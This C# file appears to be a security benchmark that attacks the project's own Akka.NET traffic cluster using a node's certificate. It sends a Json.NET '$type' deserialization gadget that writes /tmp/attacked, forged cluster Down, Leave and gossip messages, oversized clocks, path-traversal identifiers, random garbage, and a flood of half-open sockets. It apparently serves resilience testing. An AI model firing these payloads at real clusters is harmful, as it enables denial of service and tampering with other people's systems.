using System.Net;
using System.Net.Sockets;
using System.Security.Authentication;
using System.Text;
using Google.Protobuf;
using TrafficFlow.SystemTests.Security;
using static TrafficFlow.SystemTests.Security.AttackClient;

namespace TrafficFlow.Benchmarks.Attack;

/// <summary>Where and as whom is attacked.</summary>
/// <param name="Host">Address of the attacker, which its certificate names.</param>
/// <param name="Certificates">Folder with node.crt and node.key.</param>
/// <param name="Site">Of the certificate.</param>
/// <param name="Camera">Of the certificate.</param>
/// <param name="OtherCamera">One that counts, and is not the certificate's.</param>
internal sealed record AttackTarget(string Host, string Certificates, string Server, int Port, string Site, string Approach, string Camera, string OtherCamera);

/// <summary>
/// All that one who has opened a cabinet can think of, in no order, again and again: the deadly messages of the library, types by name, forged
/// counts and gossip, unknown approaches, garbage, and sockets that say nothing.
/// </summary>
internal sealed class AttackLoop(AttackTarget target, int seed)
{
    private const int MessagesOfOneLink = 500;
    private const int SilentSockets = 300;

    private static readonly string[] Victims =
    [
        "/", "/user", "/system", "/remote", "/user/flow-tables", "/user/health-board", "/user/health-board/health-board", "/user/membership", "/user/site-commands", "/user/vital",
        "/system/cluster/core/daemon", "/system/sharding/approaches", "/system/sharding/approachesCoordinator", "/system/sharding/approachesCoordinator/singleton/coordinator",
        "/system/distributedPubSubMediator", "/user/health-board/../flow-tables",
    ];

    private readonly Random _random = new(seed);
    private long _messages;
    private long _links;
    private long _refusedLinks;
    private long _sockets;

    /// <returns>What was sent, as one line for a program.</returns>
    public async Task<string> RunAsync(TimeSpan duration)
    {
        using var over = new CancellationTokenSource(duration);
        await Task.WhenAll(SayAsync(over.Token), KnockAsync(over.Token));
        return FormattableString.Invariant($"messages={_messages} links={_links} refused_links={_refusedLinks} silent_sockets={_sockets}");
    }

    private async Task SayAsync(CancellationToken over)
    {
        while (!over.IsCancellationRequested)
        {
            try
            {
                using var link = await DialAsync(target.Server, target.Port, $"{target.Certificates}/node.crt", $"{target.Certificates}/node.key", target.Host, target.Port);
                _links++;
                for (var i = 0; i < MessagesOfOneLink && !over.IsCancellationRequested; i++)
                {
                    await SayAsync(link);
                    _messages++;
                    if (i % 20 == 0) await Task.Delay(5, over);
                }
            }
            catch (Exception e) when (e is IOException or SocketException or AuthenticationException or OperationCanceledException or ObjectDisposedException)
            {
                _refusedLinks++;
                await Task.Delay(50, CancellationToken.None);
            }
        }
    }

    /// <summary>Half-open connections, renewed as they are dropped.</summary>
    private async Task KnockAsync(CancellationToken over)
    {
        var held = new Queue<Socket>();
        try
        {
            while (!over.IsCancellationRequested)
            {
                var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
                held.Enqueue(socket);
                if (held.Count > SilentSockets) held.Dequeue().Dispose();
                try
                {
                    await socket.ConnectAsync(IPAddress.Parse(target.Server), target.Port, over);
                    _sockets++;
                    await Task.Delay(10, over);
                }
                catch (SocketException)
                {
                    await Task.Delay(200, over);
                }
            }
        }
        catch (OperationCanceledException)
        {
            // Over.
        }
        finally
        {
            foreach (var socket in held) socket.Dispose();
        }
    }

    private Task SayAsync(AttackClient link)
    {
        var victim = Path(Victims[_random.Next(Victims.Length)]);
        return _random.Next(16) switch
        {
            0 => link.SendAsync(victim, 16, "PP", []),
            1 => link.SendAsync(victim, 16, "K", []),
            2 => link.SendAsync(victim, _random.Next(2) == 0 ? 1 : 7322, "SkiaSharp.SKFileWStream, SkiaSharp", Encoding.UTF8.GetBytes("""{"$type":"SkiaSharp.SKFileWStream, SkiaSharp","path":"/tmp/attacked"}""")),
            3 => link.SelectAsync(Path("/"), ["user", "*"], 16, "PP", [], type: 3),
            4 => link.SendAsync(Path("/system/cluster/core/daemon"), 5, $"Akka.Cluster.ClusterUserAction+{(_random.Next(2) == 0 ? "Down" : "Leave")}, Akka.Cluster", Address(target.Server, target.Port)),
            5 => link.SendAsync(Path("/system/cluster/core/daemon"), 5, "Akka.Cluster.GossipEnvelope, Akka.Cluster", Gossip()),
            6 => link.SendAsync(Path("/system/cluster/core/daemon"), 5, "Akka.Cluster.InternalClusterAction+Join, Akka.Cluster", Join()),
            7 => link.SendAsync(Path("/system/sharding/approaches"), 7321, "delivery-batch-v1", Batch(target.OtherCamera, target.Approach)),
            8 => link.SendAsync(Path("/system/sharding/approaches"), 7321, "delivery-batch-v1", Batch(target.Camera, target.Approach)),
            9 => link.SendAsync(Path("/system/sharding/approaches"), 7321, "delivery-batch-v1", Batch(target.Camera, FormattableString.Invariant($"x/../y{_random.Next()}"))),
            10 => link.SendAsync(Path("/system/sharding/approachesCoordinator/singleton/coordinator"), 13, "BL", Message(w => Part(w, 1, Encoding.UTF8.GetBytes(Path("/system/sharding/approaches"))))),
            11 => link.SendAsync(Path("/system/remote-watcher"), 16, "RWHB", [], sequence: 1UL << _random.Next(64)),
            12 => link.SendAsync(Path("/user/membership"), 7321, "member-known-v1", []),
            13 => link.SendAsync(Path("/user/membership"), 7321, "is-member-v1", Message(w => Part(w, 1, "x"u8)), "akka://trafficflow/user/membership"),
            14 => link.SendAsync(Path("/system/cluster/core/daemon"), 5, "Akka.Cluster.GossipStatus, Akka.Cluster", Status()),
            _ => link.SendAsync(victim, _random.Next(40), Encoding.ASCII.GetString(Bytes(3)), Bytes(_random.Next(200))),
        };
    }

    /// <summary>The server is down, says this.</summary>
    private byte[] Gossip() => Message(w =>
    {
        Part(w, 1, Unique(target.Host, 42));
        Part(w, 2, Unique(target.Server, 1));
        Part(w, 3, Message(g =>
        {
            Part(g, 1, Unique(target.Server, _random.Next()));
            Part(g, 2, "server"u8);
            Part(g, 4, Message(m =>
            {
                Whole(m, 3, 4);
                Part(m, 4, [0]);
            }));
        }));
    });

    /// <summary>A clock of thousands of nodes.</summary>
    private byte[] Status() => Message(w =>
    {
        Part(w, 1, Unique(target.Host, 42));
        for (var i = 0; i < 3000; i++) Part(w, 2, Encoding.ASCII.GetBytes(FormattableString.Invariant($"!{i:D5}")));
    });

    private byte[] Join() => Message(w =>
    {
        Part(w, 1, Unique(_random.Next(2) == 0 ? target.Host : target.Server, 42));
        Part(w, 2, "server"u8);
    });

    private byte[] Unique(string host, int uid) => Message(w =>
    {
        Part(w, 1, Address(host, target.Port));
        Whole(w, 2, uid);
    });

    /// <summary>Of the highest epoch, and of the year 9990.</summary>
    private byte[] Batch(string camera, string approach) => Message(w =>
    {
        Part(w, 1, Encoding.UTF8.GetBytes(target.Site));
        Part(w, 2, Encoding.UTF8.GetBytes(camera));
        Part(w, 3, Encoding.UTF8.GetBytes(approach));
        Whole(w, 4, long.MaxValue);
        Whole(w, 5, long.MaxValue);
        Part(w, 6, Message(p => Part(p, 1, "x"u8)));
        Part(w, 7, Message(e =>
        {
            Whole(e, 1, long.MaxValue);
            Part(e, 3, Message(v =>
            {
                Part(v, 1, Encoding.UTF8.GetBytes(approach));
                Part(v, 2, "entering"u8);
                v.WriteTag(3, WireFormat.WireType.Fixed64);
                v.WriteSFixed64(new DateTime(9990, 1, 1, 0, 0, 0, DateTimeKind.Utc).Ticks);
            }));
        }));
    });

    private byte[] Bytes(int count)
    {
        var bytes = new byte[count];
        _random.NextBytes(bytes);
        return bytes;
    }

    private string Path(string path) => FormattableString.Invariant($"akka.tcp://trafficflow@{target.Server}:{target.Port}{path}");
}
